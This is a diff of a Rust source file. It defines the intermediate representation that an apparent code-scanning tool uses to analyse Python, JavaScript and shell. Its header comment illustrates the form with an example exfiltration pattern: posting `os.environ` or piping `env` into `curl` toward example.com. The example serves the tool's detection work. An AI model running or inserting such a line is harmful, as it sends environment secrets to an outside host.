@@ -1,9 +1,9 @@
 //! The common form: what a program of any language looks like to the rules.
 //!
-//! Python, JavaScript and shell say the same few things in different ways: a value comes from somewhere, is changed, and goes
+//! Python, JavaScript and shell express the same few things in different ways: a value comes from a source, is changed, and goes
 //! somewhere. Each language is *lowered* into this form once (see [`crate::lower`]), and everything after that (data flow,
-//! chains of evidence, capabilities) is written once. The form keeps what a value is made of and drops what it
-//! doesn't need: types, control flow beyond order, arithmetic.
+//! chains of evidence, capabilities) is written once. The form keeps the parts of a value and drops what it
+//! does not need: types, control flow beyond order, arithmetic.
 //!
 //! ```text
 //! requests.post(URL, json=dict(os.environ))      # Python
@@ -12,7 +12,7 @@
 //!   Call curl ["-d", "@-", "https://example.com"]  input: Call env []
 //! ```
 //!
-//! Lowering never fails: what a parser can't read becomes [`Expr::Parts`] of what it could, and `Program::broken` says so.
+//! Lowering never fails: what a parser cannot read becomes [`Expr::Parts`] of what it could, and `Program::broken` is set.
 
 /// A position: a byte offset into the text that was lowered.
 pub type At = u32;
@@ -24,9 +24,11 @@ pub struct Program {
     pub body: Vec<Stmt>,
     /// The offset of the first piece that the parser could not read, if any.
     pub broken: Option<At>,
-    /// Whether some of it was left out because reading it would have taken too long. A mistake is a mistake; this is a
-    /// text that nobody can vouch for.
+    /// Whether a part was left out because parsing it would have taken too long. Unlike a syntax error, this leaves text
+    /// that was not scanned.
     pub cut: bool,
+    /// Whether the parser of its language is not part of this build, so that most of it was not read.
+    pub unparsed: bool,
 }
 
 /// A statement.
@@ -39,7 +41,7 @@ pub enum Stmt {
         name: String,
         /// What it gets.
         value: Expr,
-        /// Where.
+        /// The offset.
         at: At,
     },
     /// Something is evaluated.
@@ -55,7 +57,7 @@ pub enum Stmt {
     },
     /// A function returns this.
     Return(Expr),
-    /// Statements that run only if something holds, or several times: `if`, `for`, `while`, `try`, `with`, `case`. The condition is
+    /// Statements that run conditionally or several times: `if`, `for`, `while`, `try`, `with`, `case`. The condition is
     /// evaluated first; else-branches and handlers are part of the body, in order.
     Block {
         /// What is asked or iterated over, if anything.
@@ -80,12 +82,12 @@ pub enum Expr {
     Call(Box<Call>),
     /// Texts put together: `+`, f-strings, templates, `"…" % x`, adjacent shell words such as `"$A"/b`.
     Join(Vec<Expr>),
-    /// Something made of these in a way that doesn't matter here: lists, dictionaries (values and keys), tuples,
+    /// A combination of these whose form does not matter here: lists, dictionaries (values and keys), tuples,
     /// operators, conditionals, subscripts with unknown keys.
     Parts(Vec<Expr>),
     /// A list or tuple literal; order matters for argument vectors and char codes.
     List(Vec<Expr>),
-    /// A function without a name, where it stands: an arrow function or lambda given as an argument.
+    /// An anonymous function in place: an arrow function or lambda as an argument.
     Lambda {
         /// Its parameters.
         params: Vec<String>,
@@ -100,10 +102,10 @@ pub enum Expr {
 #[derive(Clone, Debug, PartialEq)]
 pub struct Call {
     /// What is called, spelt out like [`Expr::Name`]: `subprocess.run`, `child_process.exec`, `curl`. For a method on a value
-    /// that isn't a plain path it is the method with a leading dot (`.decode`), and `on` holds the value. For a method on a
-    /// plain path (`session.post`) it is the whole path, and `on` holds the `Name` before the last dot.
+    /// that isn't a plain path it is the method with a leading dot (`.decode`), and `on` contains the value. For a method on a
+    /// plain path (`session.post`) it is the whole path, and `on` contains the `Name` before the last dot.
     /// `new X(…)` calls `X`. In shell, it is the program's name without its folder (`/usr/bin/curl` is `curl`), or the empty
-    /// text when the word isn't known; `on` holds that word then.
+    /// text when the word isn't known; `on` contains that word then.
     pub callee: String,
     /// The value whose method is called.
     pub on: Option<Expr>,
@@ -112,7 +114,7 @@ pub struct Call {
     /// What is piped into it: the command before a `|`, a here-document, a here-string or `< file` (then a
     /// `Call` of [`READ`] with the path).
     pub input: Option<Expr>,
-    /// Where.
+    /// The offset.
     pub at: At,
     /// Where it ends.
     pub end: At,
